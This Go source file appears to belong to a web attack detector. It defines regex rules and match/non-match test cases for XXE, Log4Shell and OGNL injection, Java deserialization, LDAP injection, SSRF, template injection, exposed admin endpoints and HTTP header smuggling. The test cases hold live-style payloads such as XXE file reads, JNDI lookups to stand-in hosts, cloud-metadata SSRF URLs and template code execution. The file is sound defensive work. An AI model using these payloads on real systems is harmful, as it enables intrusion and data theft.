package attack

var serverKinds = []Kind{
	{
		ID: XMLInjection, Name: "xml_injection", Title: "XML injection",
		rules: []rule{
			{words: "<!doctype", form: `<!doctype[^>\[]{0,200}\[\s*(?:<!|%)`, where: inValue | inBody},
			{words: "<!entity", form: `<!entity\s+(?:%\s*)?[\w.-]+\s+(?:system|public|['"])`, where: inValue | inBody},
			{words: "<xi:include", form: `<xi:include\b`, where: inValue | inBody},
			{words: "<!doctype",
				form: `<!doctype\s+[\w:.-]+\s+(?:system|public\s+['"][^'"]*['"])\s+['"](?:file|ftp|gopher|http://(?:127|169|10|` +
					`192)|php|expect):?`, where: inValue | inBody},
			{words: "<xsl:",
				form:  `<xsl:(?:value-of|stylesheet|variable).{0,200}(?:php:function|document\(|system-property|runtime)`,
				where: inValue | inBody},
			{words: "count(/ name(/ /text() string-length(",
				form:  `['"]\s*\)*\s*(?:or|and)\s+(?:count|name|string-length|substring)\s*\(\s*/|['"]\s*\]\s*\|\s*//?`,
				check: short},
		},
		Finds: []Example{
			xmlBody(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`),
			xmlBody(`<!DOCTYPE r [ <!ENTITY % p SYSTEM "http://x/e.dtd"> %p; ]><r/>`),
			xmlBody(`<a xmlns:xi="x"><xi:include href="file:///etc/hosts" parse="text"/></a>`),
			xmlBody(`<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;">]><l>&b;</l>`),
			q("u=%27%20or%20count(/*)%3D1%20or%20%27"),
		},
		Ignores: []Example{
			j(`{"html":"<!DOCTYPE html><html><body>x</body></html>"}`), xmlBody(`<?xml version="1.0"?><note><to>A</to></note>`),
			j(`{"h":"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-s` +
				`trict.dtd\">"}`),
		},
	},
	{
		ID: WebAppVulnerability, Name: "web_app_vulnerability", Title: "Web application vulnerability",
		rules: []rule{
			{words: "${jndi ${${ ${lower: ${upper: ${env: ${sys: ${:: ${date:",
				form:  `\$\{\s*(?:jndi\s*:|\$\{|(?:lower|upper):[^}]{0,8}\}?|::-\w\}|(?:env|sys):[^}]{0,40}:-)`,
				where: inValue | inPath},
			{words: "${script: ${dns: ${url:", form: `\$\{(?:script:\w+:|dns:|url:\w+:)`, where: inValue | inPath},
			{words: "#_memberaccess #context ognl @java.lang (#",
				form:  `#_memberaccess|ognl\.ognlcontext|@java\.lang\.\w+@|[%$]\{\s*\(?#\w+\s*=|#context\s*\[|\(#\w+=#`,
				where: inValue | inPath},
			{words: "class.module.classloader class.classloader class['classloader",
				form: `class\.(?:module\.)?classloader|class\[['"]classloader`, where: inKey | inValue},
			{words: "t(java.lang new~java.lang.processbuilder getruntime()", form: `\bt\(\s*java\.lang\.|` +
				`new java\.lang\.processbuilder|getruntime\(\)\s*\.\s*exec`, check: short},
			{words: "invokefunction think\\app call_user_func_array eval-stdin.php allow_url_include",
				form: `invokefunction|\\think\\|think\\app|call_user_func_array&|` +
					`phpunit/.*eval-stdin\.php|allow_url_include`, where: inValue | inPath},
			{words: "ro0ab", form: `^ro0ab[a-z0-9+/]{10,}`, where: inValue},
			{words: "com.sun.rowset javax.naming com.sun.org.apache org.apache.commons.collections java.lang.autocloseable " +
				"org.springframework.context.support",
				form: `^(?:com\.sun\.(?:rowset|org\.apache|jndi)\.|javax\.(?:naming|management)\.|` +
					`org\.apache\.(?:commons\.collections|xbean|ibatis|shiro)\.|java\.lang\.(?:autocloseable|runtime)|` +
					`org\.springframework\.context\.support)[\w.$]*$`},
			{words: "o:", form: `^(?:a:\d+:\{.{0,60})?o:\d+:"[\w\\]+":\d+:\{`},
			{words: "__proto__ constructor[prototype constructor.prototype",
				form: `^__proto__$|\b__proto__[\[.]|constructor(?:\[|\.)prototype`, where: inKey},
			{words: "/wls-wsat/ /_async/ /..;/ /solr/admin /vendor/phpunit /boaform/ /gponform/ /hnap1 /cgi-bin/luci " +
				"/cgi-bin/.% /autodiscover/autodiscover.json " +
				"/remote/fgt_lang /dana-na/ /tmui/ /mgmt/tm/ /owa/auth/x.js /invoker/ /console/css/ /struts2-rest /ofbiz " +
				"/webtools/control",
				form: `/wls-wsat/|/_async/asyncresponse|/\.\.;/|/vendor/phpunit/|/boaform/|/gponform/|/hnap1\b|/remote/fgt_lang|` +
					`/dana-na/\.\.|/tmui/|/mgmt/tm/util/bash|` +
					`/invoker/(?:jmx|ejb|readonly)|/console/css/%|autodiscover\.json.*powershell|/webtools/control/\w*(?:xmlrpc|` +
					`programexport)`, where: inPath},
		},
		Finds: []Example{
			h("User-Agent: ${jndi:ldap://x.example/a}"), q("x=${${lower:j}ndi:ldap://x/a}"),
			form("class.module.classLoader.resources.context.parent=1"),
			h("Content-Type2: %{(#_='multipart/form-data').(#_memberAccess=@ognl.OgnlContext@DEFAULT)}",
				"X-Api-Version: %{(#a=@java.lang.Runtime@getRuntime())}"),
			j(`{"@type":"com.sun.rowset.JdbcRowSetImpl","autoCommit":true}`),
			p("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
			form("d=O:8:\"Exploit1\":1:{s:1:\"a\";}"), q("__proto__[admin]=1"), q("d=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
		},
		Ignores: []Example{
			j(`{"t":"price is ${amount} for ${user.name}"}`), q("q=log4j+jndi+explained"),
			j(`{"class":"com.acme.Order","a":1}`), j(`{"proto":"http"}`),
			j(`{"t":"o:3: notes"}`), j(`{"data":"rO1BX"}`),
		},
	},
	{
		ID: LDAPInjection, Name: "ldap_injection", Title: "LDAP injection",
		rules: []rule{
			{words: ")( )(| )(& *)",
				form: `\*\s*\)\s*\(\s*[\w|&!-]|\)\s*\(\s*[|&!]\s*[()]|^[\w*]{0,30}\)\s*\(\s*[\w-]{2,30}\s*[~<>]?=|` +
					`\)\s*\(\s*(?:objectclass|uid|cn|userpassword|mail)\s*=\s*\*`,
				check: closesFirst},
			{words: "*)", form: `^\*\)\s*(?:\(|%00|$)|^\w{0,20}\*\)\)$`, check: short},
		},
		Finds: []Example{
			q("user=*)(uid=*))(%7C(uid=*"), q("user=admin)(%26)"), q("u=*)(objectClass=*"), form("user=admin)(cn=*&pass=x"),
			q("user=*))"), q("u=x)(|(cn=*)"),
		},
		Ignores: []Example{
			q("filter=(%26(objectClass=user)(cn=anna))"), q("f=(a%2Bb)(c-d)"), j(`{"t":"Call me :-) (or not) (maybe = y` +
				`es)"}`), q("f=foo(*)"), j(`{"t":"see f(x)(y)"}`),
		},
	},
	{
		ID: SSRF, Name: "ssrf", Title: "SSRF",
		rules: []rule{
			{words: "gopher:// dict:// netdoc:// jar:http ldap:// ldaps:// sftp:// tftp://",
				form: `^\s*(?:url:)?(?:gopher|dict|netdoc|tftp|ldaps?|jar:https?)://?`},
			{words: "169.254. metadata.google 100.100.100.200 metadata.tencentyun metadata/v1 instance-data",
				form: `^\s*(?:https?:)?//(?:[^/@]*@)?(?:169\.254\.(?:169\.254|170\.2)|metadata\.(?:google\.internal|` +
					`tencentyun\.com)|100\.100\.100\.200|instance-data)\b`},
			{words: "://0 ://1 ://2 ://[",
				form: `^\s*https?://(?:[^/@]*@)?(?:0x[0-9a-f]{6,}|0[0-7]{8,}|\d{8,10}|0+177?\.|\[::(?:1|ffff:)|\[0:|127\.\d|` +
					`0\.0\.0\.0|0(?:[:/]|$))`, check: short},
			{words: "localhost ://10. ://192.168. ://172.",
				form: `^\s*https?://(?:[^/@]*@)?(?:localhost|10\.\d+\.\d+\.\d+|192\.168\.\d+\.\d+|172\.(?:1[6-9]|2\d|` +
					`3[01])\.\d+\.\d+)(?::(?:22|25|3306|5432|6379|9200|11211|27017|2375|8500|10250)\b)`},
			{words: "localtest.me nip.io xip.io lvh.me burpcollaborator 1u.ms rbndr.us",
				form: `^\s*https?://[\w.-]*(?:localtest\.me|\bnip\.io|xip\.io|lvh\.me|1u\.ms|rbndr\.us)`},
		},
		Finds: []Example{
			q("url=http://169.254.169.254/latest/meta-data/"), q("url=gopher://127.0.0.1:6379/_INFO"),
			j(`{"image":"http://metadata.google.internal/computeMetadata/v1/"}`),
			q("u=http://2130706433/"), q("u=http://[::1]:80/"), q("u=http://127.0.0.1:22"), q("u=http://localhost:6379/"),
			q("u=dict://x:11211/stat"), q("u=http://0x7f000001/"),
		},
		Ignores: []Example{
			q("url=https://www.example.com/a.png"), q("redirect_uri=http://localhost:3000/callback"),
			j(`{"server":"http://10.0.0.5/app"}`), j(`{"t":"see ldap://x and gopher://y"}`),
			q("q=169.254.169.254"), j(`{"link":"http://example.com/0x7f/2130706433"}`),
		},
	},
	{
		ID: SSTI, Name: "ssti", Title: "Server-side template injection",
		rules: []rule{
			{words: "{{",
				form: `\{\{[-\s]*(?:\(?\s*['"]?\d+['"]?\s*\*\s*['"]?\d+|config(?:\.items|\s*\}|\.__|\[)|self\b[.\[_]|` +
					`request\.(?:application|__|environ)|` +
					`['"(\[].{0,6}[)\]]?\s*\.\s*__|\w+\.__|['"]{2}\.|\[\]\.|_self\.|lipsum|cycler|joiner|namespace\.|constructor|` +
					`['"].{0,40}['"]\s*\|\s*(?:filter|map|system|passthru)|\$on\.constructor|` +
					`.{0,60}(?:__class__|__globals__|__import__|\.constructor))`, where: inValue | inPath},
			{words: "${",
				form: `\$\{\s*(?:\(?\d+\s*[*+]\s*\d+\)?\s*\}|t\(java|['"]{2}\.getclass|\w+\.getclass\(|class\.forname|new java|` +
					`"freemarker|product\.getclass|#this)`, where: inValue | inPath},
			{words: "#{", form: `#\{\s*(?:\d+\s*\*\s*\d+\s*\}|.{0,60}getclass\(|session\.setattribute|.{0,20}system\()`,
				where: inValue | inPath},
			{words: "<%=", form: "<%=\\s*(?:\\d+\\s*[*+]\\s*\\d+|system\\s*\\(|file\\.|dir\\.|io\\.popen|`|global\\.process)",
				check: short},
			{words: "{%",
				form: `\{%-?\s*(?:import\s+os|debug|include\s+['"]/|for\s+\w+\s+in\s+(?:\[\]|\(\)|'')\.__|if\s+['"]{2}\.__|` +
					`set\s+.{0,40}__)`},
			{words: "__subclasses__ __mro__ __globals__ __builtins__",
				form: `__(?:class|mro|base|subclasses|globals|builtins|init|import)__.{0,40}(?:__|\[|\()`, check: short},
			{words: "<#assign #set( freemarker.template.utility @( *{",
				form: `<#assign\s+\w+\s*=\s*['"]freemarker\.template\.utility|#set\s*\(\s*\$\w+\s*=.{0,60}(?:getclass|forname|` +
					`runtime|\d+\s*\*\s*\d+)|^@\(\s*\d+\s*[*+]\s*\d+\s*\)$|^\*\{\s*(?:\d+\s*\*|t\(java)`},
		},
		Finds: []Example{
			q("name=%7B%7B7*7%7D%7D"), q("n=${7*7}"), q("n=%7B%7Bconfig.items()%7D%7D"),
			j(`{"n":"{{''.__class__.__mro__[1].__subclasses__()}}"}`), q("n=%23%7B7*7%7D"),
			q("n=%3C%25=%207*7%20%25%3E"), j(`{"n":"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"}`),
			j(`{"n":"{{_self.env.registerUndefinedFilterCallback('exec')}}"}`),
		},
		Ignores: []Example{
			j(`{"t":"Hello {{name}}, your order {{order.id}} is ready"}`), j(`{"t":"cost: ${price} / #{count}"}`),
			j(`{"css":"a{b:c}} {{d}}"}`), q("q=7*7"),
			j(`{"math":"{x : 7*7 = 49}"}`), j(`{"t":"{% if user %}hi{% endif %}"}`), j(`{"t":"call obj.__init__ first"}`),
		},
	},
	{
		ID: UnauthorizedAccess, Name: "unauthorized_access", Title: "Unauthorized access vulnerability",
		rules: []rule{
			{words: "/actuator /heapdump /jolokia /env",
				form: `/actuator/(?:env|heapdump|threaddump|beans|mappings|configprops|loggers|httptrace|trace|dump|jolokia|` +
					`gateway|shutdown|restart|logfile|auditevents|sessions)|^/(?:heapdump|jolokia(?:/|$))`, where: inPath},
			{words: "/druid/ /nacos/ /xxl-job-admin /solr/ /jenkins/ /manager/ /h2-console /phpmyadmin /pma/ /adminer " +
				"/server-status /server-info /hazelcast /eureka/ /jmx-console /web-console /zabbix",
				form: `/druid/(?:index|websession|weburi|login|sql|datasource)|/nacos/v1/(?:auth|cs|ns|core)|/xxl-job-admin/|` +
					`/solr/(?:admin|[\w.-]+/(?:config|dataimport))|/jenkins/(?:script|manage)|/manager/(?:html|text|status)|` +
					`/h2-console|/phpmyadmin|^/pma/|/adminer(?:-[\d.]+)?(?:\.php|$)|/server-(?:status|info)$|/(?:jmx|web)-console|` +
					`/zabbix/(?:jsrpc|zabbix|setup)`, where: inPath},
			{words: "/v2/api-docs /v3/api-docs /swagger /api-docs /doc.html /knife4j",
				form:  `/v[23]/api-docs|/swagger-ui(?:\.html|/)|/swagger-resources|/swagger/(?:index\.html|v\d)|/doc\.html$`,
				where: inPath},
			{words: "/_cat/ /_cluster/ /_nodes /_plugin/ /containers/json /v1/agent/ /v1/kv/ /api/v1/pods /debug/pprof " +
				"/console/ /script /asynchpeople /systeminfo",
				form: `^/_(?:cat/(?:indices|nodes|shards)|cluster/(?:health|settings|state)|nodes(?:/|$)|plugin/head)|` +
					`/containers/json$|^/v1/agent/(?:self|members)|^/debug/pprof|/console/login/loginform\.jsp|^/asynchpeople|` +
					`^/systeminfo$`, where: inPath},
			{words: "/setup-config.php /install.php /wp-admin/ /config.php /telescope /_profiler /_debugbar /elmah.axd " +
				"/trace.axd /phpinfo /info.php /_ignition",
				form: `/wp-admin/(?:setup-config|install)\.php|/telescope/requests|/_profiler/|/_debugbar/|/(?:elmah|` +
					`trace)\.axd|/phpinfo(?:\.php)?$|/info\.php$|/_ignition/execute`, where: inPath},
		},
		Finds: []Example{
			p("/actuator/env"), p("/actuator/heapdump"), p("/druid/index.html"), p("/nacos/v1/auth/users"),
			p("/swagger-ui.html"), p("/v2/api-docs"), p("/phpmyadmin/index.php"),
			p("/_cat/indices"), p("/h2-console/login.do"), p("/manager/html"), p("/server-status"),
		},
		Ignores: []Example{
			p("/actuator/health"), p("/actuator/prometheus"), p("/api/environments"), p("/api/managers/html"), p("/druids/1"),
			p("/api/docs"), p("/consoles"), p("/_search"), p("/api/v1/status"),
		},
	},
	{
		ID: NonCompliantProtocol, Name: "non_compliant_protocol", Title: "Non-compliant protocol",
		rules: []rule{
			{words: "set-cookie location content-type content-length http/1",
				form:  `[\r\n]\s*(?:set-cookie|location|content-type|content-length|x-[\w-]+|refresh)\s*:|[\r\n]\s*http/1\.[01]`,
				where: inRaw},
		},
		Finds: []Example{
			q("u=a%0d%0aSet-Cookie:%20x=1"), h("Content-Length: 5", "Content-Length: 6"), h("Content-Length: 5",
				"Transfer-Encoding: chunked"), {Method: "GE T"}, p("/a%00.jpg"), p("/a%c0%af..%c0%afb"),
			h("Transfer-Encoding: xchunked"), h("Bad Name: x"),
		},
		Ignores: []Example{
			j(`{"t":"line one\nContent follows: x\n"}`), h("Content-Length: 5"), h("Transfer-Encoding: chunked"),
			p("/caf%C3%A9"), {Method: "PROPFIND"}, q("q=100%25"),
		},
	},
}

// closesFirst reports that a bracket is closed which the value did not open, as it must to
// leave the filter it is put into.
func closesFirst(text []byte, _, _ int) bool {
	depth := 0
	for _, c := range text {
		switch c {
		case '(':
			depth++
		case ')':
			if depth--; depth < 0 {
				return len(text) < 300
			}
		}
	}
	return false
}
